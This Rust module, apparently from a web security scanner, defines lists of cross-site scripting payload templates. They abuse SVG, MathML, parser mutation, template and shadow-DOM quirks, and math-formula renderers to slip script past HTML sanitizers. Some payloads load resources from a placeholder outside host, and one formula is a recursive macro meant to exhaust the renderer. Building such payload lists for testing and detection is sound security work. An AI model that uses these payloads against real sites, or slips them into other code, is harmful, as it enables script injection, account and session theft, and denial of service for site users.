//! SVG and MathML, whose parsing differs from HTML's: what is text to a filter becomes an element in the page.

use super::payload::{Draft, html, text};

pub(super) fn all() -> Vec<Draft> {
    [
        html("SVG", SVG),
        html("MathML", MATH),
        html("mutation", MUTATIONS),
        html("template and shadow", TEMPLATES),
        text("formula", FORMULAS),
    ]
    .concat()
}

const SVG: [&str; 18] = [
    "<svg><script>{js}</script></svg>",
    "<svg><script href=\"data:,{js}\"></script></svg>",
    "<svg><script xlink:href=\"data:,{js}\"/></svg>",
    "<svg><script>&#119;indow.breached={n}</script></svg>",
    "<svg><a xlink:href=\"javascript:{js}\"><text y=20>touch</text></a></svg>",
    "<svg><a><animate attributeName=href values=\"javascript:{js}\"/><text y=20>touch</text></a></svg>",
    "<svg><a><set attributeName=href to=\"javascript:{js}\"/><text y=20>touch</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><animateTransform onbegin={js} attributeName=transform></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><foreignObject><iframe onload={js}></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{js}'/></svg>#x\"/></svg>",
    "<svg><use href=\"http://{http}/{n}/used.svg#x\"/></svg>",
    "<svg><image href=\"http://{http}/{n}/drawn.png\"/></svg>",
    "<svg><feImage href=\"http://{http}/{n}/filtered.png\"/></svg>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>",
];

const MATH: [&str; 9] = [
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math><mi><img src=x onerror={js}></mi></math>",
    "<math href=\"javascript:{js}\"><mtext>touch</mtext></math>",
    "<math><maction actiontype=\"statusline#http://{http}/{n}\" xlink:href=\"javascript:{js}\">touch</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>{js}</script></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror={js}></annotation-xml></math>",
    "<math><semantics><annotation-xml><svg onload={js}></annotation-xml></semantics></math>",
    "<math><mglyph src=\"http://{http}/{n}/glyph.png\"></math>",
    "<math><mstyle xlink:type=simple xlink:href=\"javascript:{js}\">touch</mstyle></math>",
];

const MUTATIONS: [&str; 14] = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={js}&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror={js}></style></math>",
    "<svg></p><style><a id=\"</style><img src=x onerror={js}>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror={js}>\">",
    "<noembed><p title=\"</noembed><img src=x onerror={js}>\">",
    "<select><style><!--</style><img title=\"--><img src=x onerror={js}>\"></select>",
    "<plaintext><img src=x onerror={js}>",
    "<table><a href=x><td><img src=x onerror={js}></table>",
    "<svg><annotation-xml><foreignObject><style><!--</style><p id=\"--><img src=x onerror={js}>\">",
    "<details><summary><form><isindex action=\"javascript:{js}\" type=image></form></summary></details>",
];

const TEMPLATES: [&str; 10] = [
    "<template><img src=x onerror={js}></template>",
    "<div><template shadowrootmode=open><img src=x onerror={js}></template></div>",
    "<div><template shadowrootmode=closed><script>{js}</script></template></div>",
    "<template shadowroot=open><style>@import 'http://{http}/{n}/shadow.css'</style></template>",
    "<slot onslotchange={js}>slot</slot>",
    "<made-up is=script>{js}</made-up>",
    "<p is=made-up onclick={js}>p</p>",
    "<x-link rel=import href=http://{http}/{n}/import.html></x-link>",
    "<link rel=import href=http://{http}/{n}/import.html>",
    "<div contenteditable><img src=x onerror={js}></div>",
];

const FORMULAS: [&str; 12] = [
    "$\\href{javascript:{js}}{touch}$",
    "$\\url{javascript:{js}}$",
    "$$\\includegraphics{http://{http}/{n}/formula.png}$$",
    "$\\htmlId{x}{\\htmlStyle{background:url(http://{http}/{n}/style)}{x}}$",
    "$\\unicode{<img src=x onerror={js}>}$",
    "$<img src=x onerror={js}>$",
    "$$\n<script>{js}</script>\n$$",
    "\\(<img src=x onerror={js}>\\)",
    "\\[\\def\\x{<script>{js}</script>}\\x\\]",
    "$\\def\\a{\\a\\a}\\a$",
    "$`<svg onload={js}>`$",
    "```math\n\\href{javascript:{js}}{touch}\n```",
];
